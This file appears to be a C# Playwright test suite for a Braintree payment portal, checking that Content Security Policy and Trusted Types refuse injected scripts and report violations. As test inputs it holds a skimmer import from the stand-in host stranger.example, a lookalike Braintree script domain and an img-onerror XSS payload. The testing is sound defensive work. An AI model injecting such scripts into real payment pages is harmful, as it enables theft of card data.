using CustomerPayments.Domain;
using CustomerPayments.Testing;

namespace CustomerPayments.PortalTests.Gateway;

/// <summary>What the browser itself reports of the paying page: nothing of ours, and what an intruder tries.</summary>
public sealed class PolicyBreachTests : BraintreeTest
{
    private const string Stranger = "stranger.example";

    private const string Record = """
        window.breaches = [];
        addEventListener('securitypolicyviolation', breach =>
          window.breaches.push(`${breach.effectiveDirective} ${breach.blockedURI}`));
        """;

    protected override (string Key, string Value)[] Settings => [("Braintree:CollectDeviceData", "true")];

    protected override bool IsGateways(Uri address) => address.Host == Stranger || base.IsGateways(address);

    /// <summary>The complaint about the intruder's script belongs to what is tested.</summary>
    protected override bool IsExpected(string complaint) =>
        complaint.Contains(Stranger, StringComparison.Ordinal)
            || complaint.Contains("This document requires 'Trusted", StringComparison.Ordinal);

    [Test]
    public async Task A_walk_by_card_and_by_bank_breaks_no_policy_and_raises_no_alarm()
    {
        var before = await ReportsAsync();
        await SendReportsAtOnceAsync();
        await Page.AddInitScriptAsync(Record);
        await ReadyToPayAsync(151_11);
        await FillBankAccountAsync();
        await Field("Credit card").CheckAsync();
        await Pay.ClickAsync();
        await Expect(Heading("Payment received")).ToBeVisibleAsync();

        Assert.That(await Page.EvaluateAsync<string[]>("window.breaches"), Is.Empty);
        Assert.That(await ReportsAsync(), Is.EqualTo(before));
    }

    [Test]
    public async Task A_script_that_an_intruder_adds_is_refused_and_the_browser_reports_it_to_us()
    {
        var before = await ReportsAsync();
        await SendReportsAtOnceAsync();
        await Page.AddInitScriptAsync(Record);
        await ReadyToPayAsync(152_11);
        var report = await Page.RunAndWaitForRequestFinishedAsync(() => Page.EvaluateAsync("""
            () => import('https://stranger.example/skim.js').catch(() => null)
            """), new() { Predicate = request => request.Url == $"{Stage.Address}/portal/policy-reports" });

        Assert.That(await Page.EvaluateAsync<string[]>("window.breaches"),
            Is.EqualTo(["script-src-elem https://stranger.example/skim.js"]));
        Assert.That((await report.ResponseAsync())?.Status, Is.EqualTo(204));
        Assert.That(await ReportsAsync(), Is.EqualTo(before + 1));
    }

    [TestCase("script.src = 'https://stranger.example/skim.js'")]
    [TestCase("script.src = 'https://js.braintreegateway.com.stranger.example/web/3.144.0/js/client.min.js'")]
    [TestCase("script.text = 'alert(1)'")]
    [TestCase("document.body.innerHTML = '<img src=x onerror=alert(1)>'")]
    public async Task Text_becomes_no_script_and_no_markup_where_braintrees_scripts_run(string attack)
    {
        await Page.AddInitScriptAsync(Record);
        await ReadyToPayAsync(153_11);

        var thrown = await Page.EvaluateAsync<string>($$"""
            () => {
              const script = document.createElement('script');
              try { {{attack}}; return ''; } catch (error) { return error.name; }
            }
            """);

        Assert.That(thrown, Is.EqualTo("TypeError"));
        Assert.That(await Page.EvaluateAsync<string[]>("window.breaches"),
            Is.EqualTo(["require-trusted-types-for trusted-types-sink"]));
    }

    /// <summary>
    /// Chromium without windows sends nothing to what <c>report-to</c> names; with them it does, over https and within
    /// a minute. Without <c>report-to</c> it does what Firefox and Safari do: it sends to <c>report-uri</c>, at once.
    /// </summary>
    private async Task SendReportsAtOnceAsync() => await Page.RouteAsync($"{Stage.Address}/portal/**", async route =>
    {
        if (route.Request.ResourceType != "document")
        {
            await route.ContinueAsync();
            return;
        }

        var answer = await route.FetchAsync();
        var headers = answer.Headers.ToDictionary();
        headers["content-security-policy"] = headers["content-security-policy"]
            .Replace("report-to policy;", "", StringComparison.Ordinal);
        await route.FulfillAsync(new() { Response = answer, Headers = headers });
    });

    /// <returns>How many reports the alarm counts.</returns>
    private static async Task<long> ReportsAsync() =>
        await Stage.Api.AlarmAsync(AlarmCode.PolicyBreached.Code) ?? 0;
}
